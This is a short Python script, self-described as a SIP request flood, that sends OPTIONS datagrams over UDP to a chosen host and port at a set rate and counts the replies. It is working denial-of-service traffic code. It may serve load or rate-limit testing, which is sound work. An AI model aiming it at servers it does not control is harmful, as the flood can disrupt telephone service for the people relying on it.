#!/usr/bin/env python3
"""udpflood.py SRC DST:PORT RATE SECONDS -- a SIP request flood over UDP.

Sends OPTIONS datagrams (a fresh Call-ID and branch each) from SRC:5060 at
RATE per second for SECONDS, in batches every 10 ms; prints "sent N" and
"answers N" (datagrams that came back)."""
import socket
import sys
import time

src, dst, rate, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
host, port = dst.rsplit(":", 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((src, 5060))
s.setblocking(False)
tpl = ("OPTIONS sip:123@%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:5060;branch=z9hG4bK-f%%d\r\n"
       "From: <sip:flood@%s>;tag=f%%d\r\nTo: <sip:123@%s>\r\nCall-ID: flood%%d@%s\r\n"
       "CSeq: 1 OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n") % (host, src, src, host, src)
sent = answers = 0
start = time.monotonic()
end = start + secs
while True:
    now = time.monotonic()
    if now >= end:
        break
    due = int((now - start) * rate)
    while sent < due:
        try:
            s.sendto((tpl % (sent, sent, sent)).encode(), (host, int(port)))
        except BlockingIOError:
            break
        sent += 1
    try:
        while True:
            s.recv(65535)
            answers += 1
    except BlockingIOError:
        pass
    time.sleep(0.01)
print("sent", sent)
print("answers", answers)
